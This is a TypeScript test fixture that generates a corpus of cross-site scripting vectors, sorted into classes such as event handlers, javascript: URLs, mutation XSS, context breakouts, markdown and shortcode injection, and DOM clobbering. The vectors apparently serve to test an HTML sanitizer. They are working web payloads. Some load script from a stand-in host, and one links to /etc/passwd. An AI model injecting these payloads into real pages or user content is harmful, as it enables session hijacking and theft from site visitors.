/** How a vector comes to run: what it has to be put into by somebody who is careless. */
export type XssClass = 'script' | 'handler' | 'namespace' | 'address' | 'mutation' | 'breakout' | 'style' | 'frame' | 'markdown' | 'shortcode' | 'formula' | 'clobbering' | 'template' | 'fileName' | 'data' | 'clipboard';

export interface XssVector {
  readonly id: number;
  readonly kind: XssClass;
  /** What an author writes. When it runs it calls `xss(id)`, or asks for `http://xss.invalid/id`. */
  readonly text: string;
  /** Where a careless page would put it, at `@`: as markup of its own unless said otherwise. */
  readonly into: string;
  /** Why today's Chromium runs it nowhere; it is kept for what other browsers and other readers of HTML make of it. */
  readonly inert: string | undefined;
}

type Line = readonly [text: string, into?: string] | { readonly text: string; readonly into?: string; readonly inert: string };

const LINK = '<a href="@">link</a>';
const IN_TITLE = '<title>@</title>';
const QUOTED = '<input value="@">';
const OLD = 'only browsers that are gone ran it';
const NAMES_ONLY = 'it runs nothing by itself, but takes the place of what scripts ask for by name';

/** `RUN` stands for the call, `ADDRESS` for the address. */
const lines: Readonly<Record<XssClass, readonly Line[]>> = {
  script: [
    ['<script>RUN</script>'],
    ['<ScRiPt>RUN</sCrIpT>'],
    ['<script >RUN</script >'],
    ['<script/x>RUN</script/x>'],
    ['<script\n>RUN</script\n>'],
    ['<script src="data:text/javascript,RUN"></script>'],
    ['<script type="module">RUN</script>'],
    ['<script>/*<!--*/RUN//--></script>'],
    ['<svg><script>RUN</script></svg>'],
    ['<svg><script href="data:,RUN"></script></svg>'],
    ['<svg><script xlink:href="data:,RUN"></script></svg>'],
    ['<script src=//xss.invalid/ID></script>'],
    ['<link rel=stylesheet href=ADDRESS>'],
    ['<link rel=preload as=script href=ADDRESS>'],
    { text: '<script language="vbscript">RUN</script>', inert: OLD },
    { text: '<scr<script>ipt>RUN</scr</script>ipt>', inert: 'it becomes a script where somebody takes “<script>” out once' },
  ],
  handler: [
    ['<img src=x onerror=RUN>'],
    ['<img src=x onerror="RUN">'],
    ["<img src='x' onerror='RUN'>"],
    ['<img/src="x"/onerror=RUN>'],
    ['<IMG SRC=x OnErRoR=RUN>'],
    ['<img src=x onerror\n=\nRUN>'],
    ['<img src=x onerror=&#x78;&#x73;&#x73;&#40;ID&#41;>'],
    ['<img src=x:x onerror=window["xs"+"s"](ID)>'],
    ['<img src=x onerror=eval(atob("BASE64"))>'],
    ['<img srcset=x onerror=RUN>'],
    ['<image src=x onerror=RUN>'],
    ['<body onload=RUN>', '<!doctype html>@'],
    ['<input autofocus onfocus=RUN>'],
    ['<select autofocus onfocus=RUN><option>x</select>'],
    ['<textarea autofocus onfocus=RUN></textarea>'],
    ['<button onclick=RUN>x</button>'],
    ['<div onmouseover=RUN>x</div>'],
    ['<div tabindex=1 onfocus=RUN>x</div>'],
    ['<details open ontoggle=RUN><summary>x</summary></details>'],
    ['<video><source onerror=RUN></video>'],
    ['<video src=x onerror=RUN></video>'],
    ['<audio src=x onerror=RUN></audio>'],
    ['<iframe onload=RUN></iframe>'],
    ['<style onload=RUN></style>'],
    ['<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=RUN>x</b>'],
    ['<form><button onclick=RUN>x</button></form>'],
    ['<x onclick=RUN>x</x>'],
    ['<a onclick=RUN>x</a>'],
    ['<label for=q onclick=RUN>x</label>'],
    { text: '<object data=x:x onerror=RUN></object>', inert: 'Chromium tells an object of no such fault' },
    { text: '<marquee onstart=RUN>x</marquee>', inert: OLD },
    { text: '<keygen autofocus onfocus=RUN>', inert: OLD },
    { text: '<bgsound src="javascript:RUN">', inert: OLD },
  ],
  namespace: [
    ['<svg onload=RUN>'],
    ['<svg/onload=RUN>'],
    ['<svg><g onclick=RUN><text>x</text></g></svg>'],
    ['<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>'],
    ['<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>'],
    ['<svg><a><animate attributeName=href values="javascript:RUN"></animate><text y=20>x</text></a></svg>'],
    ['<svg><animate onbegin=RUN attributeName=x dur=1s></svg>'],
    ['<svg><set attributeName=x onbegin=RUN dur=1s></svg>'],
    ['<svg><image href=x onerror=RUN></svg>'],
    ['<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>'],
    ['<math><mtext><img src=x onerror=RUN></mtext></math>'],
    ['<math><maction onclick=RUN>x</maction></math>'],
    { text: '<math href="javascript:RUN">x</math>', inert: OLD },
    { text: '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"></svg>', inert: 'Chromium takes no data: into a use any more' },
  ],
  address: [
    ['javascript:RUN', LINK],
    ['JaVaScRiPt:RUN', LINK],
    [' javascript:RUN', LINK],
    ['\u0001javascript:RUN', LINK],
    ['java\tscript:RUN', LINK],
    ['java\nscript:RUN', LINK],
    ['java\r\nscript\n:RUN', LINK],
    ['java&#9;script:RUN', LINK],
    ['&#106;avascript:RUN', LINK],
    ['javascript&colon;RUN', LINK],
    ['javascript:%78ss(ID)', LINK],
    ['javascript://example.edu/%0aRUN', LINK],
    ['javascript:/*https://example.edu/*/RUN', LINK],
    ['javascript:void(RUN)', '<form action="@"><button>x</button></form>'],
    ['javascript:RUN', '<form><button formaction="@">x</button></form>'],
    ['javascript:RUN', '<iframe src="@"></iframe>'],
    ['javascript:RUN', '<map name=m><area shape=default href="@"></map><img usemap=#m>'],
    ['data:text/html,<script>RUN</script>', '<iframe src="@"></iframe>'],
    { text: 'data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=', into: LINK, inert: 'no browser goes to data: in a whole tab any more' },
    { text: 'vbscript:MsgBox("RUN")', into: LINK, inert: OLD },
    { text: 'feed:javascript:RUN', into: LINK, inert: OLD },
    { text: 'view-source:javascript:RUN', into: LINK, inert: 'pages may not lead there' },
    { text: '\u3000javascript:RUN', into: LINK, inert: 'this white space is none to an address' },
    { text: 'file:///etc/passwd', into: LINK, inert: 'pages of the web may not lead there' },
  ],
  mutation: [
    ['<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>'],
    ['<svg></p><style><a id="</style><img src=x onerror=RUN>">', '@twice'],
    ['<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>'],
    ['<svg><title><style><img src=x onerror=RUN></style></title></svg><svg><desc><img src=x onerror=RUN></desc></svg>'],
    ['<template><img src=x onerror=RUN></template>', '<div id=t>@</div><script>document.body.append(t.querySelector("template").content)</script>'],
    ['<xmp><p title="</xmp><img src=x onerror=RUN>">'],
    ['<noembed><p title="</noembed><img src=x onerror=RUN>">'],
    ['<noframes><p title="</noframes><img src=x onerror=RUN>">'],
    ['<listing>&lt;img src=x onerror=RUN&gt;</listing>', '@text'],
    ['&lt;img src=x onerror=RUN&gt;', '@text'],
    { text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">', inert: 'Chromium writes angle brackets in attributes as references since 2025' },
    ['<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>', '@twice'],
  ],
  breakout: [
    ['</title><img src=x onerror=RUN>', IN_TITLE],
    ['</textarea><img src=x onerror=RUN>', '<textarea>@</textarea>'],
    ['</style><img src=x onerror=RUN>', '<style>@</style>'],
    ['</noscript><img src=x onerror=RUN>', '<noscript>@</noscript>'],
    ['--><img src=x onerror=RUN>', '<!--@-->'],
    ['--!><img src=x onerror=RUN>', '<!--@-->'],
    ['"><img src=x onerror=RUN>', QUOTED],
    ["'><img src=x onerror=RUN>", "<input value='@'>"],
    ['" autofocus onfocus="RUN', QUOTED],
    ["' autofocus onfocus='RUN", "<input value='@'>"],
    ['x onfocus=RUN autofocus', '<input value=@>'],
    ['";RUN//', '<script>var x = "@";</script>'],
    ["';RUN//", "<script>var x = '@';</script>"],
    ['${RUN}', '<script>var x = `@`;</script>'],
    ["');RUN//", "<button onclick=\"open('@')\">x</button>"],
    ['&#39;);RUN//', "<button onclick=\"open('@')\">x</button>"],
    ['</option></select><img src=x onerror=RUN>', '<select><option>@</option></select>'],
    ['</td></tr></table><img src=x onerror=RUN>', '<table><tr><td>@</td></tr></table>'],
  ],
  style: [
    ['<style>@import "ADDRESS";</style>'],
    ['<style>body{background:url(ADDRESS)}</style>'],
    ['<b style="background:url(ADDRESS)">x</b>'],
    ['red;background:url(ADDRESS)', '<b style="color:@">x</b>'],
    ['</style><script>RUN</script>', '<style>b{color:@}</style>'],
    { text: '<b style="width:expression(RUN)">x</b>', inert: OLD },
    { text: '<b style="behavior:url(ADDRESS)">x</b>', inert: OLD },
    { text: '<b style="-moz-binding:url(ADDRESS)">x</b>', inert: OLD },
  ],
  frame: [
    ['<iframe srcdoc="<script>parent.RUN</script>"></iframe>'],
    ['<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>'],
    ['<iframe src="javascript:parent.RUN"></iframe>'],
    ['<iframe src="ADDRESS"></iframe>'],
    ['<embed src="ADDRESS">'],
    ['<object data="ADDRESS"></object>'],
    ['<meta http-equiv=refresh content="0;url=ADDRESS">'],
    ['<base href="ADDRESS/"><img src=x>'],
    ['<img src="ADDRESS">'],
    { text: '<meta http-equiv=refresh content="0;url=javascript:RUN">', inert: OLD },
    { text: '<isindex type=image src=1 onerror=RUN>', inert: OLD },
  ],
  markdown: [
    ['[link](javascript:RUN)', '@markdown'],
    ['[link](<javascript:RUN>)', '@markdown'],
    ['[link]( javascript:RUN "title")', '@markdown'],
    ['[link](JAVASCRIPT:RUN)', '@markdown'],
    ['[link](java&#10;script:RUN)', '@markdown'],
    ['<javascript:RUN>', '@markdown'],
    ['[link][ref]\n\n[ref]: javascript:RUN', '@markdown'],
    ['[ref]\n\n[ref]: <javascript:RUN> "title"', '@markdown'],
    ['![x" onerror="RUN](x)', '@markdown'],
    ['![x](x"onerror="RUN)', '@markdown'],
    ['[a](x"onclick="RUN)', '@markdown'],
    ['# <img src=x onerror=RUN>', '@markdown'],
    ['- item\n\n  <img src=x onerror=RUN>\n', '@markdown'],
    ['| a | b |\n|---|---|\n| <img src=x onerror=RUN> | <svg onload=RUN> |', '@markdown'],
    ['<div>\n\n**bold** <img src=x onerror=RUN>\n\n</div>', '@markdown'],
    ['[![x](x)](javascript:RUN)', '@markdown'],
    ['text[^1]\n\n[^1]: <img src=x onerror=RUN>', '@markdown'],
    ['![x](ADDRESS)', '@markdown'],
    { text: '```html\n<img src=x onerror=RUN>\n```', inert: 'code is shown as it is written', into: '@none' },
  ],
  shortcode: [
    ['{{< resource uuid="\\"><img src=x onerror=RUN>" >}}', '@shortcode'],
    ['{{% resource_link "00000000-0000-4000-8000-00000000a001" "<img src=x onerror=RUN>" %}}', '@shortcode'],
    ['{{% resource_link "x" "link" "javascript:RUN" %}}', '@shortcode'],
    ['{{< resource uuid="00000000-0000-4000-8000-00000000a001" href="javascript:RUN" >}}', '@shortcode'],
    ['{{< youtube "x\\" onload=\\"RUN" >}}', '@shortcode'],
    ['{{< quote "<img src=x onerror=RUN>" "<svg onload=RUN>" >}}', '@shortcode'],
    ['{{< image-gallery-item href="javascript:RUN" text="<svg onload=RUN>" >}}', '@shortcode'],
    ['{{< "<img src=x onerror=RUN>" "x" >}}', '@shortcode'],
    ['{{< anchor `"><img src=x onerror=RUN>` >}}', '@shortcode'],
    ['{{< tdopen rowspan="\\"><img src=x onerror=RUN>" >}}\n{{< tdclose >}}', '@shortcode'],
    ['{{< quiz_choice isCorrect="true" >}}<img src=x onerror=RUN>{{< /quiz_choice >}}', '@shortcode'],
    ['{{< td-colspan 2 >}}[x](javascript:RUN)<svg onload=RUN>{{< /td-colspan >}}', '@shortcode'],
    ['{{< sub "<img src=x onerror=RUN>" >}}', '@shortcode'],
  ],
  formula: [
    ['\\href{javascript:RUN}{x}', '@formula'],
    ['\\url{javascript:RUN}', '@formula'],
    ['\\includegraphics[alt={x}]{ADDRESS}', '@formula'],
    ['\\htmlStyle{background:url(ADDRESS)}{x}', '@formula'],
    ['\\text{<img src=x onerror=RUN>}', '@text'],
    { text: '\\htmlData{x=<img src=x onerror=RUN>}{x}', inert: 'KaTeX escapes the attribute', into: '@formula' },
    { text: '\\htmlId{app}{x}\\htmlClass{cm-editor}{x}', inert: NAMES_ONLY, into: '@formula' },
    { text: '\\unicode{<img src=x onerror=RUN>}', inert: 'KaTeX does not know it', into: '@formula' },
    { text: '\\def\\a{\\a\\a}\\a', inert: 'it grows without end, and runs nothing', into: '@formula' },
  ],
  clobbering: [
    { text: '<form id=app><input name=attributes><input name=parentNode></form>', inert: NAMES_ONLY },
    { text: '<img name=getElementById><img name=querySelector>', inert: NAMES_ONLY },
    { text: '<a id=xssConfig><a id=xssConfig name=url href="javascript:RUN">', inert: NAMES_ONLY },
    { text: '<form name=location><input name=href value="ADDRESS"></form>', inert: NAMES_ONLY },
    { text: '<iframe name=self srcdoc="x"></iframe>', inert: NAMES_ONLY },
    { text: '__proto__', inert: NAMES_ONLY },
    { text: 'constructor', inert: NAMES_ONLY },
  ],
  template: [
    ["{{constructor.constructor('RUN')()}}", '@template'],
    ['{{[].pop.constructor("RUN")()}}', '@template'],
    ['{{ xss(ID) }}', '@template'],
    { text: '<%= RUN %>', inert: 'no page of ours reads it', into: '@none' },
    { text: '#{RUN}', inert: 'no page of ours reads it', into: '@none' },
    { text: '{@html "<img src=x onerror=RUN>"}', inert: 'Svelte reads its own files only', into: '@none' },
  ],
  fileName: [
    ['<img src=x onerror=RUN>.pdf'],
    ['"><img src=x onerror=RUN>.png', '<a download="@">x</a>'],
    ["'onmouseover='RUN'.mp4", "<a title='@'>x</a>"],
    ['x" onclick="RUN.vtt', '<a title="@">x</a>'],
    ['\u202e<svg onload=RUN>gpj.exe'],
    ['..%2f<img src=x onerror=RUN>\u0000.docx'],
    ['javascript:RUN.html', LINK],
  ],
  data: [
    ['</script><script>RUN</script>', '<script>var state = {"title":"@"};</script>'],
    ['</script><img src=x onerror=RUN>', '<script type="application/json">{"title":"@"}</script>'],
    ['\u2028RUN//', '<script>// @\n</script>'],
    { text: '<!--<script>RUN</script>', into: '<script>var x = "@"</script>', inert: 'it only keeps the script around it from ending' },
    ['<![CDATA[><img src=x onerror=RUN>]]>'],
  ],
  clipboard: [
    ['<p>x</p><img src=x onerror=RUN>'],
    ['<html xmlns:o="urn:schemas-microsoft-com:office:office"><p class=MsoNormal onclick=RUN>x<o:p></o:p></p></html>'],
    ['<b id="docs-internal-guid-1"><a href="javascript:RUN">link</a></b>'],
    ['<p><a href="java\nscript:RUN">link</a></p>'],
    ['<table><tr><td onclick=RUN>x<img src=x onerror=RUN></td></tr></table>'],
    ['<p>x</p><iframe srcdoc="<script>parent.RUN</script>"></iframe>'],
    ['<p style="background:url(ADDRESS)">x</p>'],
    ['<ul><li><svg onload=RUN></svg>x</li></ul>'],
    ['<pre><code><img src=x onerror=RUN></code></pre>'],
  ],
};

/** The call of one vector, as it stands in its text. */
export const callOf = (id: number): string => `xss(${id})`;
export const addressOf = (id: number): string => `http://xss.invalid/${id}`;

function filled(text: string, id: number): string {
  return text.replaceAll('BASE64', Buffer.from(callOf(id)).toString('base64')).replaceAll('RUN', callOf(id)).replaceAll('ADDRESS', addressOf(id)).replaceAll('ID', String(id));
}

let last = 0;
/** Texts that would run in the browser of who looks at them, by the classes that are known. */
export const xssCorpus: readonly XssVector[] = (Object.entries(lines) as [XssClass, readonly Line[]][]).flatMap(([kind, group]) =>
  group.map((line): XssVector => {
    const id = (last += 1);
    const given = 'inert' in line ? line : { text: line[0], into: line[1], inert: undefined };
    return { id, kind, text: filled(given.text, id), into: filled(given.into ?? '@', id), inert: given.inert };
  }),
);
